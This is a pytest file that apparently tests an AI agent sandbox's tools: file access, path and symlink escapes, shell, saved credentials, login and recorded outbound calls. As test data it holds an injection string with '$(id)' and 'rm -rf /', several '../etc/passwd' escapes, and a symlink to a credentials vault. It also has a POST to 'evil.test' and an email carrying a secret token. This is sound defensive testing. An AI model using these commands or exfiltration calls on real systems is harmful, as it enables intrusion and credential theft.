"""Every tool in a real box: happy paths, path escapes and bad arguments."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from sandboxes.sandbox import Sandbox

pytestmark = pytest.mark.docker


def call(box: Sandbox, tool: str, **args: object) -> tuple[bool, str]:
    result = box.call_tool(tool, args)
    return result.is_error, result.output


def test_list_read_write(shared_box: Sandbox) -> None:
    secret = shared_box.tokens.values["bank"]
    size = len(f"hello {secret}\n")
    assert call(shared_box, "list_dir") == (False, f"docs/\nnotes.txt\t{size} bytes\n")
    assert call(shared_box, "read_file", path="notes.txt") == (False, f"hello {secret}\n")
    assert call(shared_box, "read_file", path="./docs//readme.md") == (False, "Read me, alice.\n")
    tricky = "quotes ' \" $(id) `id` ; rm -rf / \\n \u00e9\n"
    error, text = call(shared_box, "write_file", path="w/new/deep.txt", content=tricky)
    assert not error and "wrote" in text
    assert call(shared_box, "read_file", path="w/new/deep.txt") == (False, tricky)
    assert call(shared_box, "list_dir", path="w") == (False, "new/\n")


def test_largest_allowed_write(shared_box: Sandbox) -> None:
    content = "0123456789" * (shared_box.limits.max_payload_bytes // 10)
    assert call(shared_box, "write_file", path="big/max.txt", content=content)[0] is False
    assert call(shared_box, "list_dir", path="big") == (False, f"max.txt\t{len(content)} bytes\n")
    result = shared_box.call_tool("read_file", {"path": "big/max.txt"})
    assert result.truncated and result.output.startswith(
        content[: shared_box.limits.output_cap_bytes]
    )


def test_file_errors(shared_box: Sandbox) -> None:
    error, text = call(shared_box, "read_file", path="missing.txt")
    assert error and "no such file" in text
    error, text = call(shared_box, "read_file", path="docs")
    assert error and "not a regular file" in text
    error, text = call(shared_box, "list_dir", path="nowhere")
    assert error and "no such directory" in text
    error, text = call(shared_box, "list_dir", path="notes.txt")
    assert error and "not a directory" in text
    error, text = call(shared_box, "write_file", path="docs", content="x")
    assert error and "is a directory" in text
    error, text = call(shared_box, "delete_path", path=".")
    assert error and "workspace itself" in text
    error, text = call(shared_box, "move_path", src="nothing", dst="b")
    assert error and "no such file" in text


@pytest.mark.parametrize("path", ["../etc/passwd", "/etc/passwd", "a/../../x", "..", "", "\0x"])
def test_lexical_escapes_are_refused(shared_box: Sandbox, path: str) -> None:
    for name, args in (
        ("read_file", {"path": path}),
        ("write_file", {"path": path, "content": "x"}),
        ("delete_path", {"path": path}),
        ("move_path", {"src": "notes.txt", "dst": path}),
    ):
        result = shared_box.call_tool(name, args)
        assert result.is_error and result.output.startswith("error: "), (name, path)
    assert call(shared_box, "read_file", path="notes.txt")[0] is False


def test_symlink_escapes_are_refused(shared_box: Sandbox) -> None:
    setup = "mkdir -p esc && ln -s /etc esc/etc && ln -s /sandbox/vault esc/vault && echo ok"
    assert call(shared_box, "run_shell", command=setup) == (False, "ok\n")
    for name, args in (
        ("read_file", {"path": "esc/etc/passwd"}),
        ("read_file", {"path": "esc/vault/credentials"}),
        ("list_dir", {"path": "esc/etc"}),
        ("write_file", {"path": "esc/vault/new", "content": "x"}),
        ("write_file", {"path": "esc/etc/deeper/new", "content": "x"}),
        ("move_path", {"src": "notes.txt", "dst": "esc/vault/notes.txt"}),
        ("search_files", {"pattern": "root", "path": "esc/etc"}),
    ):
        result = shared_box.call_tool(name, args)
        assert result.is_error and "outside the workspace" in result.output, (name, result)
    # deleting the link removes the link, never its target
    assert call(shared_box, "delete_path", path="esc/vault")[0] is False
    assert "bank" in shared_box.exec(["cat", "/sandbox/vault/credentials"]).output


def test_delete_and_move(shared_box: Sandbox) -> None:
    call(shared_box, "write_file", path="m/a.txt", content="A")
    assert call(shared_box, "move_path", src="m/a.txt", dst="m/sub/b.txt") == (
        False,
        "moved m/a.txt to m/sub/b.txt\n",
    )
    assert call(shared_box, "read_file", path="m/sub/b.txt") == (False, "A")
    assert call(shared_box, "delete_path", path="m") == (False, "deleted m\n")
    assert call(shared_box, "read_file", path="m/sub/b.txt")[0] is True


def test_search_files(shared_box: Sandbox) -> None:
    call(shared_box, "write_file", path="s/Report-Q3.txt", content="line one\nNeedle here\n")
    error, text = call(shared_box, "search_files", pattern="needle", path="s")
    assert not error
    assert "s/Report-Q3.txt:2:Needle here" in text
    error, text = call(shared_box, "search_files", pattern="report")
    assert "s/Report-Q3.txt (name matches)" in text
    error, text = call(shared_box, "search_files", pattern="-e zzz-not-there")
    assert not error and text == ""


def test_run_shell(shared_box: Sandbox) -> None:
    result = shared_box.call_tool("run_shell", {"command": "pwd; echo err >&2; exit 3"})
    assert result.exit_code == 3 and result.is_error
    assert result.output == "/sandbox/work\nerr\n"


def test_shell_is_offered_only_where_allowed(new_box: Callable[..., Sandbox]) -> None:
    box = new_box()
    result = box.call_tool("run_shell", {"command": "id"})
    assert result.is_error and "not available" in result.output


def test_credentials_and_login(shared_box: Sandbox) -> None:
    secret = shared_box.tokens.values["bank"]
    assert call(shared_box, "list_credentials") == (False, "bank: service=bank username=alice")
    error, text = call(shared_box, "get_credential", name="bank")
    assert not error and f"password: {secret}" in text
    error, text = call(shared_box, "get_credential", name="nobody")
    assert error and "saved: bank" in text
    assert call(shared_box, "login", service="bank", username="alice", password=secret)[
        1
    ].startswith("200 OK")
    assert call(shared_box, "login", service="bank", username="alice", password="guess")[
        1
    ].startswith("401")
    weird = "p&ss=word+ %41\t\n'\""
    assert call(shared_box, "login", service="bank-login", username="alice", password=weird)[
        1
    ].startswith("200 OK")
    assert call(shared_box, "login", service="nowhere", username="u", password="p")[1].startswith(
        "404"
    )
    logins = shared_box.final_state().logins
    assert [(a.service, a.password, a.accepted) for a in logins[-4:]] == [
        ("bank", secret, True),
        ("bank", "guess", False),
        ("bank-login", weird, True),
        ("nowhere", "p", False),
    ]


def test_outbound_tools_are_recorded(shared_box: Sandbox) -> None:
    secret = shared_box.tokens.values["bank"]
    assert call(shared_box, "send_email", to="bob@corp.test", subject="Hi", body=secret) == (
        False,
        "Email sent to bob@corp.test (subject: Hi).",
    )
    assert call(shared_box, "http_request", method="get", url="https://news.test/today/") == (
        False,
        f"200 OK\n\nTop story {secret}",
    )
    assert call(shared_box, "http_request", method="POST", url="http://evil.test/x", body="d") == (
        False,
        "200 OK (recorded; no network in the sandbox)",
    )
    assert call(shared_box, "post_message", channel="#general", text="hello") == (
        False,
        "Message posted to #general.",
    )
    outbox = shared_box.final_state().outbox[-4:]
    assert [(c.tool, c.to) for c in outbox] == [
        ("send_email", "bob@corp.test"),
        ("http_request", "news.test"),
        ("http_request", "evil.test"),
        ("post_message", "#general"),
    ]
    assert outbox[0].args == {"to": "bob@corp.test", "subject": "Hi", "body": secret}
    in_box = shared_box.exec(["cat", "/sandbox/state/outbox.jsonl"]).output.splitlines()
    assert json.loads(in_box[-1])["args"] == {"channel": "#general", "text": "hello"}
    error, text = call(shared_box, "http_request", method="GET", url="file:///etc/passwd")
    assert error and "not a full http(s) URL" in text
    error, text = call(shared_box, "http_request", method="BREW", url="http://a.test")
    assert error and "must be one of" in text


@pytest.mark.parametrize(
    ("name", "args", "message"),
    [
        ("teleport", {}, "unknown tool 'teleport'"),
        ("read_file", {}, "missing argument 'path'"),
        ("read_file", {"path": 7}, "must be a string, got integer"),
        ("read_file", {"path": ["a"]}, "must be a string, got array"),
        ("read_file", {"path": "a", "mode": "r"}, "unexpected argument 'mode'"),
        ("read_file", "notes.txt", "must be a JSON object"),
        ("write_file", {"path": "big.txt", "content": "x" * 70_000}, "too large"),
        ("send_email", {"to": "a@b.test", "subject": "s", "body": None}, "missing argument 'body'"),
    ],
)
def test_bad_arguments_become_error_observations(
    shared_box: Sandbox, name: str, args: object, message: str
) -> None:
    result = shared_box.call_tool(name, args)
    assert result.is_error and message in result.output


def test_final_state_reads_workspace_files(shared_box: Sandbox) -> None:
    call(shared_box, "write_file", path="fs/out.txt", content="final words")
    shared_box.exec(
        ["sh", "-c", "head -c 300000 /dev/zero | tr '\\0' z > /sandbox/work/fs/big.txt"]
    )
    shared_box.exec(["sh", "-c", "printf 'a\\0b' > /sandbox/work/fs/blob.bin"])
    files = shared_box.final_state().files
    assert files["fs/out.txt"] == "final words"
    assert files["fs/big.txt"].endswith(
        f"[file cut at {shared_box.limits.state_file_cap_bytes} bytes]"
    )
    assert files["fs/blob.bin"] == "<binary file, 3 bytes>"
    assert files["docs/readme.md"] == "Read me, alice.\n"
